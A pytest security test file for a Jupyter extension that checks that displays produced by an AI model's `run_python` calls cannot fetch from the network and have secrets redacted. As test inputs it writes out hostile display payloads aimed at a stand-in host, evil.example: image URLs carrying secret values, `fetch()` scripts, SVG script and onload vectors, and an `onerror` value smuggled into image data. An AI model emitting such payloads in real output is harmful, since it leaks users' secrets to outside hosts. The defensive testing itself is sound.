"""Nothing a `run_python` call displays fetches by itself (output/display_no_fetch.py).

Unit tests: each MIME type of a display bundle (made by IPython's own display formatter where
IPython has a class for it) through `no_fetch_bundle`, audited with the independent parser of
tests/support/no_fetch.py; the publish wrapper of output_router (rewrite, then redaction, for
`display`, `update_display` and threads the code starts, while the model's sink gets the
original bundle). Then a real
kernel: a `%%penguin --approve allow-all` cell whose scripted model runs every hostile display
vector with run_python; the cell's iopub outputs hold no loading URL and no script, the pandas
table and the matplotlib PNG still arrive, the model reads what it read before — and the same
code in a user's own cell (the control) publishes every vector untouched.
"""

from __future__ import annotations

import base64
import json
import os
import re
import threading
from pathlib import Path
from typing import Any

import pytest
from IPython.core.formatters import DisplayFormatter
from IPython.display import (
    HTML,
    SVG,
    Audio,
    IFrame,
    Image,
    Javascript,
    Latex,
    Markdown,
    Video,
    YouTubeVideo,
)

from penguin_jupyter.notebook.output.display_no_fetch import (
    KEPT_AS_IS,
    no_fetch_bundle,
    svg_is_self_contained,
)
from penguin_jupyter.notebook.output.output_router import (
    capture_current_thread,
    release_current_thread,
)
from penguin_jupyter.redaction import Redactor
from penguin_jupyter.testing import ScriptedModelServer
from tests.support.kernel import KernelHarness, kernel_env
from tests.support.no_fetch import PNG_4X4, audit
from tests.support.run_python_no_fetch import DISPLAY_PATHS, hostile_display_code
from tests.support.session import configure_model

pytestmark = pytest.mark.security

BASE = "http://evil.example:8123"
HOST = "evil.example"
NOTE = "penguin: not shown live ("
WIDGET_MIME = "application/vnd.jupyter.widget-view+json"
TRANSCRIPT_MIME = "application/vnd.penguin.transcript+json"
_FORMATTER = DisplayFormatter()


def _bundle(obj: Any) -> tuple[dict[str, Any], dict[str, Any]]:
    data, metadata = _FORMATTER.format(obj)
    return data, metadata


def _safe(data: dict[str, Any]) -> dict[str, Any]:
    out, _ = no_fetch_bundle(data)
    return out


def _assert_loads_nothing(data: dict[str, Any]) -> None:
    """Only allowed types; HTML that loads nothing, runs nothing, and links the host only from a
    placeholder; no other string names the host outside the note-free plain text."""
    assert set(data) <= KEPT_AS_IS | {"text/html", "image/svg+xml"}, data.keys()
    markup = data.get("text/html", "")
    checked = audit(markup)
    assert checked.loads == [], checked.loads
    assert "<script" not in markup.lower()
    for link in re.findall(r"<a\b[^>]*>", markup):
        if HOST in link:
            assert 'class="pg-remote"' in link, link
    if "image/svg+xml" in data:
        assert HOST not in data["image/svg+xml"]


# --- per MIME type -------------------------------------------------------------------------
def test_html_image_becomes_a_placeholder_naming_the_host():
    data, _ = _bundle(HTML(f'<p>report</p><img src="{BASE}/x.png?secret=abc">'))
    out = _safe(data)
    _assert_loads_nothing(out)
    assert f"image from {HOST} — click to open" in out["text/html"]
    assert "<p>report</p>" in out["text/html"]
    assert audit(data["text/html"]).loads, "the audit catches the raw vector"


def test_pandas_table_keeps_its_table_and_its_text():
    pd = pytest.importorskip("pandas")
    frame = pd.DataFrame({"region": ["North", "South"], "units": [120, 45]})
    data, _ = _bundle(frame)
    out = _safe(data)
    _assert_loads_nothing(out)
    assert out["text/plain"] == data["text/plain"]
    assert '<table class="dataframe">' in out["text/html"]
    assert re.sub(r"\s", "", out["text/html"]).count("<td>") == 4
    assert NOTE not in out["text/plain"]  # a plain table is not "not shown"


def test_markdown_is_rendered_to_safe_html_and_keeps_a_plain_text():
    data, _ = _bundle(Markdown(f"![chart]({BASE}/md.png) **done**"))
    out = _safe(data)
    _assert_loads_nothing(out)
    assert "text/markdown" not in out
    assert "<strong>done</strong>" in out["text/html"]
    assert f"image from {HOST}" in out["text/html"]
    assert "text/plain" in out
    assert _safe({"text/markdown": "**only**"})["text/plain"] == "**only**"


def test_svg_with_external_reference_is_a_placeholder_and_a_clean_svg_stays():
    hostile = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{BASE}/s.png"/></svg>'
    data, _ = _bundle(SVG(hostile))
    out = _safe(data)
    _assert_loads_nothing(out)
    assert "image/svg+xml" not in out
    assert f"image from {HOST}" in out["text/html"] and NOTE in out["text/html"]
    clean = '<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"><rect width="4" height="4"/></svg>'
    data, _ = _bundle(SVG(clean))
    assert _safe(data) == data


@pytest.mark.parametrize(
    "svg",
    [
        '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//h/x")</script></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(1)"></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><img src=x></foreignObject></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><style>@import "x.css";</style></svg>',
    ],
)
def test_svg_that_runs_or_loads_anything_is_not_self_contained(svg):
    assert not svg_is_self_contained(svg)


def test_rasters_and_json_stay_as_they_are_with_their_metadata():
    data, metadata = _bundle(Image(data=base64.b64decode(PNG_4X4), format="png", width=40))
    out, out_metadata = no_fetch_bundle(data, metadata)
    assert out == data and out["image/png"] == PNG_4X4
    assert out_metadata == metadata == {"image/png": {"width": 40}}
    bundle = {"application/json": {"url": f"{BASE}/x"}, "image/jpeg": "/9j/", "text/plain": "x"}
    assert _safe(bundle) == bundle


def test_javascript_is_dropped_with_a_note():
    mime = "application/javascript"
    data, metadata = _bundle(Javascript(f'fetch("{BASE}/js")'))
    assert mime in data
    out, out_metadata = no_fetch_bundle(data, {**metadata, mime: {"isolated": True}})
    assert set(out) == {"text/plain"}
    assert out["text/plain"].startswith(NOTE + mime) and "\n" not in out["text/plain"]
    assert mime not in (out_metadata or {})


@pytest.mark.parametrize(
    "mime",
    [
        "text/javascript",
        "application/vnd.plotly.v1+json",
        "application/vnd.bokehjs_exec.v0+json",
        "application/vnd.vegalite.v5+json",
        "application/vnd.vega.v5+json",
        "application/geo+json",
        "application/pdf",
        "text/x-unknown",
    ],
)
def test_renderer_payloads_are_dropped_with_a_note_in_the_text_shown(mime):
    payload = {"data": {"url": f"{BASE}/data.json"}}
    plotly_html = f'<script src="{BASE}/cdn.js"></script><div id="p">chart</div>'
    out = _safe({mime: payload, "text/html": plotly_html, "text/plain": "Figure()"})
    _assert_loads_nothing(out)
    assert mime not in out
    # the note is where the frontend looks: the HTML (preferred) and the plain text
    assert NOTE in out["text/html"] and mime in out["text/html"]
    assert out["text/plain"].startswith("Figure()\n" + NOTE)
    assert "scripts and embedded pages of its HTML" in out["text/plain"]


def test_latex_stays_as_it_is():
    """Typeset by the frontend's MathJax like `$…$` in HTML text (the browser test shows that
    JupyterLab's loads nothing for `\\style{…url()…}`)."""
    data, _ = _bundle(Latex(rf"$\style{{background:url({BASE}/x)}}{{x}}$"))
    assert _safe(data) == data


@pytest.mark.parametrize(
    "obj",
    [
        Image(url=f"{BASE}/x.png"),
        Video(f"{BASE}/v.mp4"),
        Audio(url=f"{BASE}/a.mp3"),
    ],
    ids=["Image(url)", "Video(url)", "Audio(url)"],
)
def test_ipython_media_by_url_become_placeholders(obj):
    data, _ = _bundle(obj)
    assert audit(data["text/html"]).loads, "the raw display loads its URL"
    out = _safe(data)
    _assert_loads_nothing(out)
    assert f"from {HOST}" in out["text/html"]


def test_youtube_iframe_and_geojson_are_not_shown_live():
    data, _ = _bundle(YouTubeVideo("abc"))
    out = _safe(data)
    _assert_loads_nothing(out)
    assert "from www.youtube.com — click to open" in out["text/html"]
    # GeoJSON displays itself (_ipython_display_) with this bundle
    geo = {"type": "Point", "coordinates": [1, 2]}
    out = _safe({"application/geo+json": geo, "text/plain": "<IPython.display.GeoJSON object>"})
    assert set(out) == {"text/plain"} and out["text/plain"].startswith(NOTE + "application/geo+json")


def test_iframe_is_a_placeholder_with_a_note():
    data, _ = _bundle(IFrame(f"{BASE}/page", 40, 40))
    out = _safe(data)
    _assert_loads_nothing(out)
    assert f"from {HOST} — click to open" in out["text/html"]
    assert "scripts and embedded pages" in out["text/html"]


def test_widget_view_is_dropped_with_a_note():
    bundle = {
        WIDGET_MIME: {"version_major": 2, "version_minor": 0, "model_id": "abc"},
        "text/plain": "HTML(value='<img src=...>')",
    }
    out = _safe(bundle)
    assert set(out) == {"text/plain"}
    assert (
        out["text/plain"]
        == "HTML(value='<img src=...>')\n" + NOTE
        + "widget): it could load from the network. "
        "Run the code in a cell of your own to see it."
    )


def test_bad_values_never_raise_and_never_pass():
    out = _safe({"text/html": 42, "text/markdown": None, "image/svg+xml": b"<svg/>", "text/plain": "x"})
    assert set(out) == {"text/plain"} and out["text/plain"].startswith("x\n" + NOTE)
    raster = _safe({"image/png": '" onerror="fetch(1)', "text/plain": "img"})
    assert set(raster) == {"text/plain"} and "image/png that is not base64" in raster["text/plain"]
    assert _safe({"image/png": base64.b64decode(PNG_4X4)})["image/png"] == base64.b64decode(PNG_4X4)
    lines = _safe({"text/html": ["<img src=", f'"{BASE}/a">']})
    _assert_loads_nothing(lines)
    assert _safe({}) == {}
    assert _safe({1: "x"}) == {
        "text/plain": NOTE
        + "1): it could load from the network. Run the code in a cell of your own to see it."
    }


# --- the publish wrapper -------------------------------------------------------------------
class _Publisher:
    """The shape of a kernel's display publisher: `publish(data, metadata=None, ..., update=False)`."""

    def __init__(self) -> None:
        self.published: list[tuple[dict[str, Any], dict[str, Any] | None, bool]] = []

    def publish(
        self, data: dict[str, Any], metadata: dict[str, Any] | None = None, *, transient=None, update=False
    ):
        self.published.append((data, metadata, update))


class _Shell:
    def __init__(self) -> None:
        self.display_pub = _Publisher()


def test_router_rewrites_display_and_update_then_redacts_and_the_sink_gets_the_original():
    shell = _Shell()
    seen: list[dict[str, Any]] = []
    hostile = {"text/html": f'<img src="{BASE}/x.png?k=SECRET-VALUE-1">', "text/plain": "SECRET-VALUE-1"}

    def worker() -> None:
        capture_current_thread(
            lambda text: None,
            shell,
            seen.append,
            redactor=Redactor([("K", "SECRET-VALUE-1")]),
        )
        try:
            shell.display_pub.publish(data=hostile, metadata={"text/html": {"isolated": True}})
            shell.display_pub.publish(hostile, {}, transient={"display_id": "d"}, update=True)
            shell.display_pub.publish({"application/javascript": "fetch(1)"})
        finally:
            release_current_thread()

    thread = threading.Thread(target=worker)
    thread.start()
    thread.join()
    assert seen == [hostile, {"application/javascript": "fetch(1)"}]  # the model's view: unchanged, no update
    (first, meta, update1), (second, _, update2), (third, _, _) = shell.display_pub.published
    assert (update1, update2) == (False, True)
    assert meta == {"text/html": {"isolated": True}}
    for data in (first, second):
        _assert_loads_nothing(data)
        assert "SECRET-VALUE-1" not in json.dumps(data) and "[redacted:K]" in data["text/html"]
    assert third["text/plain"].startswith(NOTE + "application/javascript")
    # another thread (the kernel's own output) is never rewritten
    shell.display_pub.publish(hostile)
    assert shell.display_pub.published[-1][0] is hostile


def test_threads_the_code_starts_are_rewritten_and_redacted_but_not_captured():
    shell = _Shell()
    seen: list[dict[str, Any]] = []
    hostile = {"text/html": f'<img src="{BASE}/t.png?k=SECRET-VALUE-2">'}

    def show() -> None:
        shell.display_pub.publish(data=hostile)

    def spawn(target) -> None:
        thread = threading.Thread(target=target)
        thread.start()
        thread.join()

    def worker() -> None:
        capture_current_thread(
            lambda text: None,
            shell,
            seen.append,
            redactor=Redactor([("K", "SECRET-VALUE-2")]),
        )
        try:
            spawn(show)  # a thread the code starts
            spawn(lambda: spawn(show))  # and a thread that one starts
        finally:
            release_current_thread()

    spawn(worker)
    assert seen == []  # the model reads what the worker itself displays, as before
    assert len(shell.display_pub.published) == 2
    for data, _, _ in shell.display_pub.published:
        _assert_loads_nothing(data)
        assert "SECRET-VALUE-2" not in data["text/html"] and "[redacted:K]" in data["text/html"]
    spawn(show)  # a thread started by anything else: untouched
    assert shell.display_pub.published[-1][0] is hostile


# --- a real kernel -------------------------------------------------------------------------
def _displays(messages: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [
        m["content"]["data"]
        for m in messages
        if m["msg_type"] in ("display_data", "update_display_data")
        and TRANSCRIPT_MIME not in m["content"]["data"]
    ]


def _widget_states(messages: list[dict[str, Any]]) -> dict[str, str]:
    """comm id → the widget's state as text, binary buffers (an Image's URL) included."""
    states = {}
    for m in messages:
        if m["msg_type"] == "comm_open":
            buffers = [bytes(b).decode("utf-8", "replace") for b in m.get("buffers", [])]
            states[m["content"]["comm_id"]] = json.dumps(
                [m["content"].get("data", {}).get("state", {}), buffers]
            )
    return states


def _hostile_in(messages: list[dict[str, Any]], base: str) -> set[str]:
    """The vectors (paths) a frontend would load from the cell's display outputs."""
    found: set[str] = set()
    states = _widget_states(messages)
    for data in _displays(messages):
        shown = {k: v for k, v in data.items() if k != "text/plain"}
        text = json.dumps(shown)
        view = data.get(WIDGET_MIME)
        if view is not None:
            text += states.get(view.get("model_id"), "")
        markup = data.get("text/html", "")
        placeholders = set(re.findall(r'class="pg-remote"[^>]*href="([^"]+)"', markup))
        for path in DISPLAY_PATHS:
            for url in re.findall(re.escape(base + path) + r"[^\"'\s)<\\]*", text):
                if url.replace("&", "&amp;") not in placeholders and url not in placeholders:
                    found.add(path)
    return found


def test_hostile_displays_of_run_python_reach_the_cell_fetch_free(tmp_path):
    base = "http://127.0.0.2:8123"
    code = hostile_display_code(base)
    script = [
        {
            "tool_calls": [
                {"name": "run_python", "id": "call_show", "arguments": {"description": "Show", "code": code}}
            ]
        },
        {"text": "Shown."},
    ]
    with ScriptedModelServer(script) as server:
        configure_model(Path(os.environ["PENGUIN_HOME"]), server)
        kernel = KernelHarness(str(tmp_path), kernel_env())
        try:
            assert kernel.execute("%load_ext penguin_jupyter").reply["content"]["status"] == "ok"
            control = kernel.execute(code, timeout=120)
            cell = kernel.execute("%%penguin --approve allow-all\nShow the report", timeout=180)
        finally:
            kernel.close()
    assert control.reply["content"]["status"] == "ok", control.of_type("error")
    assert cell.reply["content"]["status"] == "ok", (cell.stderr, cell.of_type("error"))
    # The control: the same code in the user's own cell publishes every vector untouched.
    assert _hostile_in(control.messages, base) == set(DISPLAY_PATHS)

    assert _hostile_in(cell.messages, base) == set()
    displays = _displays(cell.messages)
    for data in displays:
        if WIDGET_MIME not in data:  # the penguin cell's own live view is a widget
            _assert_loads_nothing(data)
    assert not any("<script" in json.dumps(data).lower() for data in displays)
    assert any(
        '<table class="dataframe">' in d.get("text/html", "") and "North" in d["text/html"] for d in displays
    )
    assert any(d.get("image/png", "").startswith("iVBOR") for d in displays), "the matplotlib PNG arrives"
    notes = "\n".join(d.get("text/plain", "") for d in displays)
    for what in ("application/javascript", "application/vnd.vegalite.v5+json", "widget"):
        assert what in notes
    updates = [m["content"]["data"] for m in cell.of_type("update_display_data")]
    assert any("update-img" in d.get("text/html", "") and "pg-remote" in d["text/html"] for d in updates)
    # What the model read is what it read before: the Markdown source, the HTML as text.
    request = server.requests[1]
    reply = next(m for m in request["messages"] if m.get("role") == "tool")
    content = reply["content"] if isinstance(reply["content"], str) else json.dumps(reply["content"])
    assert f"![chart]({base}/md-img?d=1) **done**" in content
    assert "displayed" in content
